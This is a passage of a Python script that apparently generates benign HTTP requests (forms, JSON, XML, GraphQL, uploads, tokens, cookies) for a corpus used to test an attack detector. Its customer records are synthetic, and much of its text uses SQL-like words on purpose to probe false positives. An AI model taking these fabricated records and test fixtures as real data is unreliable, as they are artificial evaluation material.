    ("Siobhán Ní Bhriain", "Apt 4, 12 Ormond Quay Upper", "", "Dublin 7", "D07 X2K8", "IE"),
    ("Ta'Nisha O'Connor-Reyes", "2209 Union Street", "Unit B", "San Francisco", "94123", "US"),
    ("Δημήτριος Παπαδόπουλος", "Οδός Ερμού 41", "", "Αθήνα", "105 63", "GR"),
    ("山田 花子", "東京都渋谷区神南1-2-3", "サウスビル 502", "渋谷区", "150-0041", "JP"),
    ("Ахмед Юсупов", "ул. Пушкина, д. 10, кв. 5", "", "Казань", "420111", "RU"),
    ("Nguyễn Thị Minh Khai", "27 Lý Thường Kiệt", "Phường Hàng Bài", "Hà Nội", "100000", "VN"),
    ("D'Arcy Fitzwilliam-Lee", "Flat 3, 5 Select Court", "Drop Lane", "Bristol", "BS1 4DJ", "GB"),
    ("محمد العلي", "شارع الملك فهد، مبنى 14", "", "الرياض", "12271", "SA"),
    ("Zoltán Kovács-Szabó", "Andrássy út 66. 2/8", "", "Budapest", "1062", "HU"),
    ("José 'Pepe' Martínez", "Calle del Olmo 3, 2º izq.", "", "Madrid", "28012", "ES"),
    ("김민준", "서울특별시 강남구 테헤란로 152", "12층", "서울", "06236", "KR"),
    ("Ngāio Te Whata", "18 Cuba Street", "Level 2", "Wellington", "6011", "NZ"),
    ("Ørjan Bråthen", "Storgata 1 B, H0203", "", "Oslo", "0155", "NO"),
    ("Priya Raghunathan (प्रिया)", "No. 7, 3rd Cross, Indiranagar", "Near 100 Ft Road", "Bengaluru", "560038", "IN"),
]

I18N = [
    ("ja", "注文番号 58213 の商品がまだ届いていません。配送状況を確認していただけますか？"),
    ("ar", "مرحبًا، أود تغيير عنوان التوصيل قبل شحن الطلب. شكرًا لكم."),
    ("ru", "Здравствуйте! Можно ли выбрать другой размер после оформления заказа? Спасибо."),
    ("el", "Καλησπέρα, η παραγγελία μου ήρθε χωρίς τιμολόγιο. Μπορείτε να μου το στείλετε με email;"),
    ("hi", "नमस्ते, मेरा रिफंड अभी तक नहीं आया है। कृपया स्थिति बताएं।"),
    ("ko", "안녕하세요, 주문을 취소하고 싶은데 취소 버튼이 보이지 않습니다. 도와주세요."),
    ("zh", "请问这款水壶可以寄到香港吗？运费大概多少？"),
    ("he", "שלום, קיבלתי את המוצר הלא נכון. איך אפשר להחליף אותו?"),
    ("tr", "Merhaba, siparişimi iptal etmek istiyorum; kargoya verilmeden önce mümkün mü?"),
    ("pl", "Dzień dobry, czy mogę zamówić dwie sztuki i odebrać je w sklepie w Krakowie?"),
    ("vi", "Xin chào, tôi muốn đổi sang size L. Đơn hàng số 40217, cảm ơn!"),
    ("th", "สวัสดีครับ สินค้ายังไม่มาถึงเลย ช่วยตรวจสอบให้หน่อยได้ไหมครับ"),
    ("de", "Hallo, beim Update der Lieferadresse kam eine Fehlermeldung – bitte die alte Adresse löschen. Danke!"),
    ("fr", "Bonjour, je voudrais sélectionner la livraison en point relais ; l'option a disparu après la mise à jour."),
]

JSON_API = [
    ("POST", "/api/v2/orders", {"items": [{"sku": "KT-200-SS", "qty": 1}, {"sku": "FLT-12", "qty": 3}],
                                "shipping": {"method": "standard", "address_id": 88213}, "coupon": "SPRING-25",
                                "notes": "Leave at the back door, or with a neighbour"}),
    ("PATCH", "/api/v2/me", {"display_name": "Conor O'Shea", "newsletter": False, "locale": "en-IE",
                             "timezone": "Europe/Dublin"}),
    ("GET", "/api/v2/orders?page=3&per_page=25&sort=-created_at&status=shipped,delivered", None),
    ("GET", "/api/v2/products?filter[category]=kitchen&filter[price][lte]=80&page[size]=24&page[number]=2", None),
    ("PUT", "/api/v2/me/preferences", {"notifications": {"email": True, "sms": False, "push": True},
                                       "order_by": "newest", "select_all_categories": False}),
    ("POST", "/api/v2/cart/items", {"sku": "CHR-EXEC-BLK", "qty": 1, "options": {"armrest": "4D", "colour": "black"}}),
    ("DELETE", "/api/v2/cart/items/CHR-EXEC-BLK", None),
    ("POST", "/api/v2/addresses", {"label": "Work", "line1": "1 Union Square", "line2": "Floor 3, desk 12",
                                   "city": "Aberdeen", "postcode": "AB11 5PN", "country": "GB"}),
    ("GET", "/api/v2/search/suggest?q=sleep%20mask&limit=8", None),
    ("POST", "/api/v2/returns", {"order_id": "58213", "lines": [{"sku": "LMP-07", "qty": 1,
                                                                 "reason": "switch is loose; drops out when touched"}]}),
    ("PATCH", "/api/v2/orders/58213", {"delivery_window": {"from": "2025-06-12T08:00:00+02:00",
                                                           "to": "2025-06-12T12:00:00+02:00"}}),
    ("POST", "/api/v2/events", {"events": [{"name": "product_view", "sku": "KT-200-SS", "ts": 1749700000123},
                                           {"name": "add_to_cart", "sku": "KT-200-SS", "ts": 1749700004512}]}),
    ("GET", "/api/v2/orders/export?format=csv&from=2025-01-01&to=2025-03-31&fields=id,total,status", None),
    ("POST", "/api/v2/wishlists/share", {"wishlist_id": 4412, "emails": ["mum@example.org", "k.o'hara@example.ie"],
                                         "message": "Birthday ideas - no pressure :)"}),
]

XML_BODIES = [
    ("/api/feeds/import", "application/rss+xml",
     "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<rss version=\"2.0\">\n  <channel>\n    <title>Kitchen Blog</title>\n"
     "    <link>https://shop.example/blog</link>\n    <description>Recipes &amp; reviews</description>\n    <item>\n"
     "      <title>Select the right kettle: a buyer's guide</title>\n"
     "      <link>https://shop.example/blog/select-the-right-kettle</link>\n"
     "      <pubDate>Tue, 03 Jun 2025 09:00:00 GMT</pubDate>\n    </item>\n  </channel>\n</rss>"),
    ("/soap/OrderService", "text/xml; charset=utf-8",
     "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">"
     "\n  <soap:Body>\n    <GetOrderStatus xmlns=\"urn:shop:orders\">\n      <OrderId>58213</OrderId>\n"
     "      <IncludeLines>true</IncludeLines>\n    </GetOrderStatus>\n  </soap:Body>\n</soap:Envelope>"),
    ("/api/orders", "application/xml",
     "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<order id=\"PO-4471-B\">\n  <customer>Ta'Nisha O'Connor-Reyes</customer>\n"
     "  <line sku=\"KT-200-SS\" qty=\"2\" price=\"39.90\"/>\n  <line sku=\"FLT-12\" qty=\"1\" price=\"7.50\"/>\n"
     "  <note>Deliver to reception; ask for \"Union desk\"</note>\n</order>"),
    ("/api/sitemaps", "application/xml",
     "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">\n"
     "  <url><loc>https://shop.example/products/kettles</loc><changefreq>daily</changefreq></url>\n"
     "  <url><loc>https://shop.example/blog/drop-leaf-tables</loc><priority>0.6</priority></url>\n</urlset>"),
    ("/soap/InventoryService", "text/xml; charset=utf-8",
     "<?xml version=\"1.0\"?>\n<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\" "
     "xmlns:inv=\"urn:shop:inventory\">\n  <soapenv:Header><inv:Tenant>eu-west</inv:Tenant></soapenv:Header>\n"
     "  <soapenv:Body>\n    <inv:UpdateStock>\n      <inv:Sku>CHR-EXEC-BLK</inv:Sku>\n      <inv:Delta>-1</inv:Delta>\n"
     "      <inv:Reason>order 58213 shipped</inv:Reason>\n    </inv:UpdateStock>\n  </soapenv:Body>\n</soapenv:Envelope>"),
    ("/api/feeds/import", "application/atom+xml",
     "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\">\n"
     "  <title>Release notes</title>\n  <updated>2025-06-01T12:00:00Z</updated>\n  <entry>\n"
     "    <title>v6.3: sort orders by total, delete saved cards</title>\n"
     "    <id>urn:uuid:5a0f6c2e-8d3b-4f61-9a7e-2c4b1d9e0f13</id>\n    <updated>2025-06-01T12:00:00Z</updated>\n"
     "    <summary>You can now order by total &amp; remove cards you no longer use.</summary>\n  </entry>\n</feed>"),
    ("/api/invoices/import", "application/xml",
     "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Invoice xmlns=\"urn:oasis:names:specification:ubl:schema:xsd:Invoice-2\">"
     "\n  <ID>INV-2291</ID>\n  <IssueDate>2025-05-30</IssueDate>\n  <Note>Payment within 30 days; late fees "
     "apply where permitted.</Note>\n  <LegalMonetaryTotal><PayableAmount currencyID=\"EUR\">94.20</PayableAmount>"
     "</LegalMonetaryTotal>\n</Invoice>"),
    ("/api/products/import", "application/xml",
     "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<products>\n  <product sku=\"SLP-MASK-2\">\n"
     "    <name>Silk sleep mask (2 pack)</name>\n    <description><![CDATA[Soft, <b>breathable</b> & washable. "
     "Select colour at checkout.]]></description>\n    <price currency=\"GBP\">18.00</price>\n  </product>\n</products>"),
]

JWT_PATHS = ["/api/v2/me", "/api/v2/orders?status=open", "/api/v2/cart", "/api/v2/addresses", "/api/v2/notifications",
             "/api/v2/wishlists", "/api/v2/invoices/2025", "/api/v2/recommendations?limit=8",
             "/api/v2/me/sessions", "/api/v2/loyalty/points"]

DATA_URLS = [
    ("/api/v2/me/avatar", "avatar"), ("/api/v2/reviews/attachments", "image"), ("/api/v2/returns/photos", "photo"),
    ("/api/v2/support/attachments", "screenshot"), ("/api/v2/wishlists/cover", "cover"),
    ("/api/v2/me/avatar", "avatar"), ("/api/v2/products/ugc", "image"), ("/api/v2/support/attachments", "screenshot"),
]

PAGES = ["/", "/products/kettles", "/products/4711-kettle-1-7l", "/cart", "/checkout/shipping", "/account/orders",
         "/blog/select-the-right-kettle", "/wishlist", "/search?q=sleep+mask", "/help/returns", "/sale",
         "/products/office-chairs?sort=price_asc"]

UPLOADS = [
    ("stock-update.csv", "text/csv",
     "sku,qty,warehouse\nKT-200-SS,14,LDS\nFLT-12,230,LDS\nCHR-EXEC-BLK,3,MAN\n", [("mode", "replace")]),
    ("customers.csv", "text/csv",
     "name,email,city\n\"O'Neil, Pat\",pat.oneil@example.ie,Cork\n\"Müller, Jörg\",jm@example.de,Köln\n",
     [("list", "newsletter")]),
    ("notes.txt", "text/plain",
     "Meeting notes 3 June\n- drop the old union-pricing table after the migration\n- select a new courier by Friday\n",
     [("folder", "team")]),
    ("prices-2025-q3.csv", "text/csv", "sku;price;currency\nKT-200-SS;39,90;EUR\nSLP-MASK-2;18,00;GBP\n",
     [("separator", ";")]),
    ("returns-policy.md", "text/markdown",
     "# Returns\n\n1. Select the order\n2. Choose *Return item*\n3. Print the label\n\nRefunds: 5-7 days.\n",
     [("page", "help")]),
    ("cron.txt", "text/plain", "# nightly tasks\n15 2 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1\n",
     [("ticket", "OPS-118")]),
    ("orders-export.csv", "text/csv",
     "id,total,status,created\n58213,94.20,shipped,2025-05-30\n58214,12.00,cancelled,2025-05-30\n",
     [("report", "monthly")]),
    ("query.sql", "application/sql",
     "-- monthly totals\nSELECT date_trunc('month', created) AS m, SUM(total)\nFROM orders\nGROUP BY 1\nORDER BY 1;\n",
     [("ticket", "DATA-42")]),
    ("feedback.txt", "text/plain",
     "Love the new checkout. Only issue: the 'delete address' button is right next to 'select', easy to misclick.\n",
     [("category", "ux")]),
    ("addresses.csv", "text/csv",
     "label,line1,city\nHome,\"5 Select Court, Drop Lane\",Bristol\nWork,1 Union Square,Aberdeen\n",
     [("import", "addresses")]),
]

GRAPHQL = [
    ("ProductPage", "query ProductPage($sku: ID!) { product(sku: $sku) { name price { amount currency } "
                    "reviews(first: 5, orderBy: NEWEST) { rating title } } }", {"sku": "KT-200-SS"}),
    ("Cart", "query Cart { cart { id items { sku qty } total { amount currency } } }", {}),
    ("AddToCart", "mutation AddToCart($sku: ID!, $qty: Int!) { addToCart(sku: $sku, qty: $qty) { cart { id } errors "
                  "{ field message } } }", {"sku": "FLT-12", "qty": 2}),
    ("UpdateProfile", "mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) { user { id "
                      "displayName } } }", {"input": {"displayName": "Siobhán Ní Bhriain", "newsletter": True}}),
    ("SearchProducts", "query SearchProducts($q: String!, $after: String) { search(query: $q, first: 24, after: "
                       "$after) { edges { node { sku name } } pageInfo { endCursor hasNextPage } } }",
     {"q": "drop leaf table", "after": "YXJyYXljb25uZWN0aW9uOjIz"}),
    ("Orders", "query Orders($status: [OrderStatus!]) { me { orders(status: $status, orderBy: {field: TOTAL, "
               "direction: DESC}) { id total } } }", {"status": ["SHIPPED", "DELIVERED"]}),
    ("DeleteAddress", "mutation DeleteAddress($id: ID!) { deleteAddress(id: $id) { deletedId } }", {"id": "88213"}),
    ("Union", "query Union { node(id: \"UHJvZHVjdDo0NzEx\") { ... on Product { name } ... on Category { title } } }",
     {}),
]

HEADER_VALUES = [
    ("X-Filter", "status:open,created>=2025-01-01", "/api/v2/orders"),
    ("X-Filter", "category = 'kitchen' and price < 80", "/api/v2/products"),
    ("X-Tenant", "acme-eu-west", "/api/v2/me"),
    ("X-Tenant", "O'Reilly Hardware Ltd", "/api/v2/invoices"),
    ("X-Trace-Context", "svc=checkout;span=4f2a;sampled=1", "/api/v2/cart"),
    ("X-Forwarded-Host", "shop.example", "/"),
    ("X-Forwarded-Host", "www.shop.example:443", "/products/kettles"),
    ("X-Display-Name", "Zoë & Ørjan", "/api/v2/me"),
    ("X-Search", "union station select seats", "/api/v2/search"),
    ("X-Callback-Url", "https://hooks.partner.example/shop/orders?token=7f3a9c", "/api/v2/webhooks"),
    ("X-Client-Name", "ShopApp iOS 6.3.1 (build 5512)", "/api/v2/me"),
    ("X-Device-Name", "Pat's iPhone", "/api/v2/me/sessions"),
]

REFERERS = [
    "https://www.google.com/search?q=drop+leaf+table+select+oak&hl=en",
    "https://www.bing.com/search?q=union+jack+cushion+delete+order&form=QBLH",
    "https://duckduckgo.com/?q=cat+tree+or+1+person+tent&ia=web",
    "https://www.reddit.com/r/BuyItForLife/comments/1d2x9k/best_kettle_that_wont_drop_dead/",
    "https://news.ycombinator.com/item?id=40567123",
    "https://shop.example/search?q=sleep+mask&sort=price_asc&page=2",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example%2Fsale&h=AT0x9fQ",
    "https://www.ecosia.org/search?method=index&q=exec+chair+where+to+buy",
]


def browser(rng, accept="text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"):
    h = [["Host", HOST], ["User-Agent", rng.choice(BROWSER_UAS)], ["Accept", accept],
         ["Accept-Language", rng.choice(LANGS)], ["Accept-Encoding", "gzip, deflate, br, zstd"]]
    if rng.random() < 0.5:
        h.append(["Referer", f"https://{HOST}{rng.choice(PAGES)}"])
    if rng.random() < 0.6:
        h.append(["Cookie", f"sessionid={rng.randbytes(16).hex()}; csrftoken={g.b64url(rng.randbytes(24))}"])
    return h


def api(rng):
    return [["Host", HOST], ["User-Agent", rng.choice(APP_UAS + BROWSER_UAS[:2])], ["Accept", "application/json"],
            ["Accept-Language", rng.choice(LANGS)]] + g.api_headers(rng)


def bearer(rng) -> str:
    header = {"alg": rng.choice(["RS256", "ES256"]), "typ": "JWT", "kid": rng.randbytes(6).hex()}
    now = 1749000000 + rng.randint(0, 999999)
    claims = {"iss": "https://id.shop.example/", "sub": g.uuid4(rng), "aud": ["shop-api"], "iat": now,
              "exp": now + 900, "scope": "orders:read profile:write", "sid": g.b64url(rng.randbytes(12))}
    enc = lambda d: g.b64url(json.dumps(d, separators=(",", ":")).encode())  # noqa: E731
    return f"{enc(header)}.{enc(claims)}.{g.b64url(rng.randbytes(64 if header['alg'] == 'ES256' else 256))}"


def analytics_cookie(rng) -> str:
    ts = 1749000000 + rng.randint(0, 999999)
    parts = [f"sessionid={rng.randbytes(16).hex()}",
             f"_ga=GA1.1.{rng.randint(10**8, 10**9)}.{ts}",
             f"_ga_{g.b64url(rng.randbytes(6)).upper()}=GS2.1.s{ts}$o{rng.randint(1, 30)}$g1$t{ts + 40}$j20$l0$h0",
             f"_gcl_au=1.1.{rng.randint(10**8, 10**9)}.{ts}",
             f"_fbp=fb.1.{ts}512.{rng.randint(10**8, 10**10)}",
             "cookie_consent=" + urllib.parse.quote(json.dumps({"necessary": True, "analytics": rng.random() < 0.5,
                                                                "marketing": False}, separators=(",", ":"))),
             f"_hjSession_{rng.randint(10**6, 10**7)}=" + g.b64url(json.dumps(
                 {"id": g.uuid4(rng), "c": ts * 1000, "s": 0, "r": 0, "sb": 0}).encode()),
             "exp_variant=" + urllib.parse.quote("checkout_v3:B|search_rank:control|free_ship_banner:A"),
             f"cart={g.b64url(json.dumps({'n': rng.randint(0, 6), 'v': 2}).encode())}",
             f"_clck={rng.randbytes(5).hex()}%7C2%7Cfm{rng.randint(1, 9)}%7C0%7C{rng.randint(1000, 1999)}",
             "recently_viewed=" + "%2C".join(str(rng.randint(1000, 9999)) for _ in range(rng.randint(3, 9))),
             f"__cf_bm={g.b64url(rng.randbytes(32))}-{ts}-1.0.1.1-{g.b64url(rng.randbytes(40))}"]
    return "; ".join(parts[:4] + rng.sample(parts[4:], rng.randint(3, len(parts) - 4)))


def b_search(rng, text):
    return g.request("GET", "/search?" + urllib.parse.urlencode({"q": text, "page": str(rng.randint(1, 3))}),
                     browser(rng))


def b_support(rng, text):
    return g.post_form("/support/contact", browser(rng) + [["Origin", f"https://{HOST}"]],
                       [("name", rng.choice(["Pat Kelly", "Mina Osei", "Lars Eriksen", "Aoife Byrne"])),
                        ("email", f"customer{rng.randint(100, 999)}@example.org"),
                        ("order", str(rng.randint(50000, 59999))), ("message", text)])


def b_comment(rng, text):
    return g.post_form("/blog/select-the-right-kettle/comments", browser(rng),
                       [("author", rng.choice(["kettle_fan", "Ms. O'Hara", "jörg", "drop_bear_77"])),
                        ("comment", text), ("notify", "on")])


def b_review(rng, entry):
    rating, title, body = entry
    return g.post_json(f"/api/v2/products/{rng.randint(1000, 9999)}/reviews", api(rng),
                       {"rating": rating, "title": title, "body": body, "recommend": rating >= 4})


def b_forum(rng, entry):
    title, body, tags = entry
    return g.post_json("/api/forum/threads", api(rng), {"title": title, "body_markdown": body, "tags": tags})


def b_snippet(rng, text):
    if rng.random() < 0.5:
        return g.post_form(f"/community/questions/{rng.randint(1000, 9999)}/answers", browser(rng),
                           [("body", text), ("format", "markdown")])
    return multipart(rng, f"/community/questions/{rng.randint(1000, 9999)}/answers", browser(rng),
                     [("body", text), ("format", "markdown")])


def b_address(rng, entry):
    name, line1, line2, city, postcode, country = entry
    return g.post_form("/checkout/address", browser(rng),
                       [("full_name", name), ("address_line1", line1), ("address_line2", line2), ("city", city),
                        ("postal_code", postcode), ("country", country),
                        ("phone", f"+{rng.randint(1, 99)} {rng.randint(100, 999)} {rng.randint(1000000, 9999999)}")])


def b_i18n(rng, entry):
    locale, text = entry
    return g.post_json("/api/v2/support/messages", api(rng), {"locale": locale, "text": text,
                                                               "order_id": str(rng.randint(50000, 59999))})


def b_json_api(rng, entry):
    method, uri, doc = entry
    h = api(rng) + [["Authorization", "Bearer " + bearer(rng)]]
    if doc is None:
        return g.request(method, uri, h)
    return g.request(method, uri, h + [["Content-Type", "application/json"]], json.dumps(doc, ensure_ascii=False))


def b_xml(rng, entry):
    uri, ctype, body = entry
    h = api(rng)
    if "soap" in ctype or uri.startswith("/soap"):
        h = h + [["SOAPAction", f"\"urn:shop:{uri.rsplit('/', 1)[-1]}\""]]
    return g.request("POST", uri, h + [["Content-Type", ctype]], body)


def b_jwt(rng, path):
    return g.request("GET", path, api(rng) + [["Authorization", "Bearer " + bearer(rng)]])


def b_data_url(rng, entry):
    uri, field = entry
    return g.post_json(uri, api(rng), {field: g.image_data_url(rng), "alt": "photo from my phone"})


def b_cookie(rng, page):
    h = browser(rng)
    h = [x for x in h if x[0] != "Cookie"] + [["Cookie", analytics_cookie(rng)]]
    return g.request("GET", page, h)


def b_upload(rng, entry):
    filename, ctype, content, extra = entry
    return multipart(rng, "/api/v2/files", api(rng) + [["Authorization", "Bearer " + bearer(rng)]],
                     extra + [("file", content, filename, ctype)])


def b_graphql(rng, entry):
    name, query, variables = entry
    return g.post_json("/graphql", api(rng), {"operationName": name, "query": query, "variables": variables})


def b_header(rng, entry):
    name, value, uri = entry
    return g.request("GET", uri, api(rng) + [[name, value]])


def b_referer(rng, referer):
    h = [x for x in browser(rng) if x[0] != "Referer"] + [["Referer", referer]]
    return g.request("GET", rng.choice(PAGES), h)


KINDS = [
    ("search", b_search, SEARCHES), ("support_form", b_support, SUPPORT), ("comment_form", b_comment, COMMENTS),
    ("review_json", b_review, REVIEWS), ("forum_json", b_forum, FORUM_POSTS), ("code_answer", b_snippet, SNIPPETS),
    ("address_form", b_address, ADDRESSES), ("i18n_json", b_i18n, I18N), ("json_api", b_json_api, JSON_API),
    ("xml", b_xml, XML_BODIES), ("jwt_api", b_jwt, JWT_PATHS), ("data_url", b_data_url, DATA_URLS),
    ("analytics_cookie", b_cookie, PAGES), ("multipart_upload", b_upload, UPLOADS), ("graphql", b_graphql, GRAPHQL),
    ("header_value", b_header, HEADER_VALUES), ("referer", b_referer, REFERERS),
]


def benign():
    return g.built_benign("seventh-", KINDS, g.Source(SEED))


if __name__ == "__main__":
    g.corpus_main(attacks, benign, ATTACKS, PLACEMENTS)
